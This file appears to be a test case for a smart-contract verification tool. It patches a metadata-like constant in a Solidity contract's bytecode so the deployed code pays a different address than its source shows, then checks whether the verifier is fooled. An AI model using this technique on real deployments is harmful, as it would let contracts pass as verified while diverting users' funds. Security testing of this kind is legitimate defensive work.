import { expect } from "vitest";
import type { Attack, Program } from "./attack.ts";
import { replace } from "./attack-world.ts";

const program: Program = {
  settings: { metadata: { appendCBOR: false } },
  sources: {
    "Bank.sol": `pragma solidity 0.8.28;
contract Bank {
    bytes constant SEAL = hex"a2646970667358221220aabbccddeeff00112233445566778899aabbccdd000000000000000000000000000064736f6c634300081c0033";
    function pay() external payable {
        bytes memory seal = SEAL;
        address payee;
        assembly { payee := shr(96, mload(add(seal, 42))) }
        payable(payee).transfer(msg.value);
    }
}`,
  },
  contract: "Bank.sol:Bank",
};

const attack: Attack = {
  title:
    "a constant at the end of code without metadata reads as metadata, and names another payee on chain",
  attack: async (world) => {
    const { creation } = await world.compile(program);
    const code = replace(creation, "aabbccddeeff00112233", "66666666666666666666");
    return world.verify(program, await world.deploy(code));
  },
  honest: async (world) => {
    const { creation } = await world.compile(program);
    return world.verify(program, await world.deploy(`0x${creation}`));
  },
  reaches: "partial",
  check: (_attacked, { source }) => {
    expect(source?.metadataUri).toBe("");
  },
};

export default attack;
